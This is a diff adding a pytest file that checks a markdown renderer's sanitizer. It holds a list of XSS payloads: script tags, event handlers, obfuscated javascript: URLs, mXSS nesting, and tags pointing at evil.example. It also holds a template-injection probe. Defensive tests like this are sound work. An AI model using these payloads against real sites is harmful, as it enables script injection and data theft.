@@ -1,0 +1,67 @@
+"""Markdown renders with the promised extensions and nothing live survives sanitizing."""
+import html5lib
+import pytest
+
+from timeline.markup import first_paragraph_summary, render_markdown
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">a</a>',
+    '<a href="JaVaScRiPt:alert(1)">a</a>',
+    '<a href="&#106;&#97;vascript:alert(1)">a</a>',
+    '<a href="java\tscript:alert(1)">a</a>',
+    '<a href="java&#9;script:alert(1)">a</a>',
+    '<a href="java&NewLine;script:alert(1)">a</a>',
+    '<a href=" \x01javascript:alert(1)">a</a>',
+    '<blockquote cite="javascript:alert(1)">q</blockquote>',
+    '<a href="vbscript:msgbox(1)">a</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
+    "[md link](javascript:alert(1))",
+    "[md link](DATA:text/html,x)",
+    "<iframe src=https://evil.example></iframe>",
+    "<object data=x></object><embed src=x>",
+    "<style>body{display:none}</style>",
+    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
+    '<p style="background:url(javascript:alert(1))" onclick="x()">p</p>',
+    "<form action=https://evil.example><input name=x></form>",
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<a href="#" onmouseover="alert(1)">hover</a>',
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+]
+LIVE_ATTRIBUTES = ("style", "src", "srcdoc", "action", "formaction", "background", "xlink:href")
+
+
+@pytest.mark.parametrize("payload", HOSTILE)
+def test_nothing_live_survives(payload):
+    fragment = html5lib.parseFragment(render_markdown(f"Before.\n\n{payload}\n\nAfter."), namespaceHTMLElements=False)
+    for element in fragment.iter():
+        if not isinstance(element.tag, str):
+            continue
+        assert element.tag not in ("script", "iframe", "object", "embed", "style", "form", "input", "meta", "base", "link", "svg", "math", "img")
+        for name, value in element.attrib.items():
+            assert not name.startswith("on") and name not in LIVE_ATTRIBUTES, (name, value)
+            if name in ("href", "cite"):
+                as_browser_reads_it = "".join(ch for ch in value if ord(ch) > 32).lower()
+                assert as_browser_reads_it.startswith(("http://", "https://", "mailto:", "#", "/")) \
+                    or ":" not in as_browser_reads_it.split("/")[0], value
+
+
+def test_extensions_footnotes_tables_attr_lists_and_smart_quotes():
+    html = render_markdown('# Heading {: #named }\n\n"Quoted" -- text[^1]\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[^1]: Note.')
+    assert '<h2 id="named">Heading</h2>' in html  # headings start below the page's own h1
+    assert "“Quoted” – text" in html
+    assert '<td>1</td>' in html
+    assert 'href="#fn:1"' in html and '<li id="fn:1">' in html
+
+
+def test_template_syntax_in_content_stays_literal():
+    assert "{{ 7*7 }}" in render_markdown("Total: {{ 7*7 }} {% raw %}")
+
+
+def test_summary_from_first_paragraph():
+    assert first_paragraph_summary(render_markdown("Some *emphasis* & [a link](https://e.org).\n\nMore.")) == \
+        "Some emphasis & a link."
